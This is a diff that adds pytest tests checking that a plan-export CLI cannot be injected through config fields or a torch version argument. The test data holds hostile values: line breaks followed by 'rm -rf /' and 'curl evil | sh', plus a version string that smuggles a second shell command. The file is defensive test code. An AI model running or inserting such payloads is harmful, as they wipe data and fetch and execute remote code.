@@ -119,3 +119,25 @@ def test_plan_export_with_nothing_qualifying_exits_1_like_plan(capsys: pytest.Ca
     assert main(["plan", TIGHT, "--export", "skypilot"]) == 1
     captured = capsys.readouterr()
     assert "resources:" not in captured.out
+
+
+@pytest.mark.parametrize("kind", ["skypilot", "k8s", "torchrun", "dockerfile"])
+def test_text_from_the_plan_file_cannot_escape_its_comment(
+    kind: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """The option's instance type and region are written into the header comment; a line break in them
+    must not start a line of YAML, shell or Dockerfile."""
+    plan = tmp_path / "plan.json"
+    hostile = option(instance_type="a3\nrun: rm -rf /\n", region="us\r\nRUN curl evil | sh")
+    plan.write_text(json.dumps(plan_doc(hostile)), encoding="utf-8")
+    assert main(["export", kind, "--plan", str(plan)]) == 0
+    out = capsys.readouterr().out
+    assert "rm -rf" in out  # kept, as text inside a comment or a quoted value
+    for line in out.splitlines():
+        assert not line.lstrip().startswith(("run: rm", "RUN curl")), line
+
+
+def test_a_torch_version_is_only_a_version(capsys: pytest.CaptureFixture[str]) -> None:
+    args = ["export", "dockerfile", "--gpu", "H100:8", "--torch", '2.5.1" && curl evil | sh && echo "']
+    assert main(args) == 2
+    assert "not a PyTorch version" in capsys.readouterr().err
